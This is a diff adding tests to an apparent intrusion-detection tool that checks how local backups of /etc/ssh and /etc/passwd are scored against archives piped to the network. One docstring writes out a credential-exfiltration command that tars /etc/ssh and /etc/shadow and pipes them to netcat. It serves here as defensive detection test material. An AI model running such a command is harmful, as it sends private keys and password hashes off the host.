@@ -333,3 +333,39 @@ def test_account_changes_scripted_without_a_terminal_raise_no_incident(ruleset) 
     )
     packaged = [a for a in result.alerts if a.context == "package"]
     assert any("postfix.postrm -> userdel" in a.context_reason for a in packaged)
+
+
+BACKUP_ACTS = DATA / "backup-acts.ndjson.gz"
+PIPED_ACTS = DATA / "piped-acts.ndjson.gz"
+KEY_READ = "SSH private key read by a non-SSH program"
+
+
+def test_a_backup_from_a_shell_with_no_known_context_raises_no_incident(ruleset) -> None:
+    """The issue's ``tar czf backup.tgz /etc/ssh /etc/passwd ...`` typed as root in a shell
+    with no terminal and no login (a script, a remote-execution channel), a zip of /etc/ssh
+    and an rsync copy of it: backups to this host's disk, lowered with their reason."""
+    result, _ = _analyse(BACKUP_ACTS, ruleset)
+    assert result.incidents() == []
+    reads = _by_title(result.alerts, KEY_READ)
+    programs = {alert.context_reason.split("(")[-1].split(" ")[0] for alert in reads}
+    assert programs == {"tar", "zip", "rsync"}
+    shadow = _by_title(result.alerts, "Password hash file read by an unexpected program")
+    for alert in [*reads, *shadow]:
+        assert (alert.context, alert.context_effect, alert.level) == ("backup", "lowered", "low")
+    assert any(a.context_reason.endswith("(tar writes backup.tgz)") for a in reads)
+
+
+def test_without_the_backup_context_the_same_tar_raises_an_incident(ruleset, monkeypatch) -> None:
+    monkeypatch.setattr("provarmor.graph.lineage.archive_written", lambda *_: "")
+    result, _ = _analyse(BACKUP_ACTS, ruleset)
+    assert result.incidents()
+
+
+def test_the_same_tar_to_standard_output_piped_to_the_network_still_raises(ruleset) -> None:
+    """``tar czf - /etc/ssh /etc/shadow | nc 127.0.0.1 PORT`` from the same kind of shell:
+    not a backup (its archive goes wherever the pipe sends it); kept, in an incident."""
+    result, _ = _analyse(PIPED_ACTS, ruleset)
+    reads = _by_title(result.alerts, KEY_READ)
+    for read in reads:
+        assert (read.context, read.level, read.original_level) == ("none", "high", "")
+        assert _incident_of(result, read).severity in ("high", "critical")
